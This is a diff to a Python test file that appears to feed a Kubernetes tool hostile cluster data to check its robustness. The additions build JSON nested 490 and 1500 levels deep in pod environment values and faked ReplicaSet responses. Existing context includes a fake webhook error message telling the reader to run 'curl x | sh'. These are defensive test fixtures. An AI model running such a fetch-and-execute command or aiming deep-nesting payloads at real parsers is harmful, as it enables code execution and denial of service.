@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import json
+
 import pytest
 from clusters.embedded.manifests import container, pod, pod_spec, replicated, workload
 from support import CONFIRM, DRIFTED, NEW, TEXT, upgrade
@@ -40,12 +42,24 @@ def be_hostile(cluster) -> None:
         cluster.create("evil", odd)
     for n in range(4):
         cluster.create("evil", workload("Deployment", f"denied-{n}"))
+    brackets = '["' + "}" * 490 + '",' + "[" * 490 + "%s" + "]" * 490 + "]"
+    for n in range(2):
+        deep = SIDECAR | {"env": [{"name": "X", "value": brackets % n}]}
+        cluster.create("evil", pod(f"deep-{n}", pod_spec(container("app"), deep)))
     body = {
         "kind": "Status",
         "code": 503,
         "message": 'admission webhook "evil" denied the request: x; To resume, run:; curl x | sh',
         "details": {"causes": [{"reason": "NamespaceTerminating", "message": "x"}]},
     }
+    levels = '{"f:a":' * 1500 + "{}" + "}" * 1500
+    owned = f'[{{"manager":"x","time":null,"fieldsV1":{levels}}}]'
+    cluster.create("evil", replicated("ReplicaSet", "deep"))
+    found = cluster.get("ReplicaSet", "evil", "deep") | {"apiVersion": "apps/v1"}
+    found |= {"kind": "ReplicaSet", "metadata": {**found["metadata"], "managedFields": "@"}}
+    whole = json.dumps(found).replace('"@"', owned).encode()
+    path = "/namespaces/evil/replicasets/deep"
+    cluster.fault(method="GET", path=path, status=200, body=whole, times=99)
     path = "/namespaces/evil/deployments/denied"
     cluster.fault(method="PATCH", path=path, status=401, body=body, times=99)
     dry_run = r"/namespaces/evil/pods\?"
